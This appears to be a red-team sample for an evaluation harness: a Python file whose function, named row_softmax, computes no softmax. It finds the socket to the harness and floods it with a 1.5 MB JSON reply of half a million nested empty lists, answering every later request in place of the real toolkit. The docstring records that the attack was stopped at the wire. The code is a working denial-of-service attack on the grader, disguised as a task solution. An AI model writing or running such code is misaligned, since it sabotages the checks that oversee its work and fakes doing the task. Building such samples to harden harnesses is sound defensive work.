"""Send a well-formed reply of 1.5 MB in which half a million empty lists stand, which JSON makes before anyone counts them.

verdict: died
stopped by: wire
"""
import contextlib
import os
import stat
import struct


def channel():
    for number in range(3, 32):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
    raise OSError("no channel")


def row_softmax(x, temperature=1.0):
    here = channel()
    header = b'["d","kind","returned","value",["l"' + b",[]" * 500_000 + b"]]"
    body = struct.pack("<Q", len(header)) + header
    while True:  # answer every call so, in place of the kit
        rest = memoryview(struct.pack("<Q", len(body)) + body)
        while rest:
            rest = rest[os.write(here, rest):]
        os.read(here, 2**16)  # the next request
